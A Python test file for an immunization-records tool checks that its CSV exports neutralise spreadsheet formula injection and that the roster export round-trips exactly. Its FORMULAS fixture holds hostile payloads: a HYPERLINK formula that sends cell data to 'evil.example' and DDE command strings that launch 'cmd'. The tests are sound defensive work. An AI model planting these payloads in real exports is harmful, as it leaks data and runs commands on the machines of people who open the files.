"""No CSV immudesk writes runs as a formula when a provider opens it in a spreadsheet (CSV injection, issue 14 item
8): the outbreak list, the age worksheets, the report's counts and the roster export; and the roster export still
imports back to exactly the same records."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from immudesk.cli import main
from immudesk.csv_safety import FORMULA_STARTS, restore_cell, spreadsheet_safe
from immudesk.model import Child, Dose
from immudesk.store import open_store

TODAY = "2026-11-21"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "'=already quoted", "''+two quotes"]


@pytest.fixture(autouse=True)
def pinned_today(monkeypatch):
    monkeypatch.setenv("IMMUDESK_TODAY", TODAY)


def _runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]


@pytest.fixture
def hostile_roster(store):
    """A child with formula-like text in every free-text field, unvaccinated so every list names them."""
    store.update_facility(state="NC", name="=Home")
    for number, text in enumerate(FORMULAS):
        store.add_child(Child(text, f"+{number}", date(2024, 1, 2), date(2024, 6, 1), parent_name=text,
                              parent_phone=f"-{number}", parent_email="@x", notes=text,
                              doses=[Dose("DTaP", date(2024, 3, 1), "20", "20")]))
    return store


def test_the_outbreak_worksheets_and_report_csvs_run_no_formula(hostile_roster, tmp_path, db_path):
    outputs = {"outbreak": ["outbreak", "measles"], "worksheets": ["worksheets"], "report": ["report"]}
    for name, command in outputs.items():
        out = tmp_path / f"{name}.csv"
        assert main([*command, "--as-of", TODAY, "--format", "csv", "--out", str(out)]) == 0
        cells = _cells(out.read_text(encoding="utf-8"))
        assert cells, name
        assert not [cell for cell in cells if _runs_as_formula(cell)], name
    outbreak = _cells((tmp_path / "outbreak.csv").read_text(encoding="utf-8"))
    assert "'" + FORMULAS[0] in outbreak and "'" + FORMULAS[1] in outbreak  # the names are there, as text
    worksheets = (tmp_path / "worksheets.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in worksheets


def test_the_roster_export_runs_no_formula_and_imports_back_the_same(hostile_roster, tmp_path, db_path):
    exported = tmp_path / "roster.csv"
    assert main(["export-roster", str(exported)]) == 0
    assert not [cell for cell in _cells(exported.read_text(encoding="utf-8")) if _runs_as_formula(cell)]
    other = tmp_path / "other.sqlite3"
    assert main(["--db", str(other), "import-roster", str(exported)]) == 0
    with open_store(other) as copy:
        names = sorted((c.first_name, c.last_name, c.parent_name, c.parent_phone, c.notes) for c in copy.children())
    expected = sorted((c.first_name, c.last_name, c.parent_name, c.parent_phone, c.notes)
                      for c in hostile_roster.children())
    assert names == expected
    again = tmp_path / "again.csv"
    assert main(["--db", str(other), "export-roster", str(again)]) == 0
    assert again.read_bytes() == exported.read_bytes()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(text=st.one_of(st.sampled_from(FORMULAS), st.text(alphabet="'=+-@\t\ra", max_size=6), st.text(max_size=20)))
def test_a_safe_cell_never_runs_and_reads_back_as_it_was(text):
    written = spreadsheet_safe(text)
    assert not _runs_as_formula(written)
    assert restore_cell(written) == text


def test_a_cell_immudesk_did_not_quote_is_read_as_it_is():
    assert restore_cell("'Ilima") == "'Ilima"      # an apostrophe a provider typed before a name stays
    assert restore_cell("O'Brien") == "O'Brien"
    assert spreadsheet_safe(5) == 5 and spreadsheet_safe(None) is None
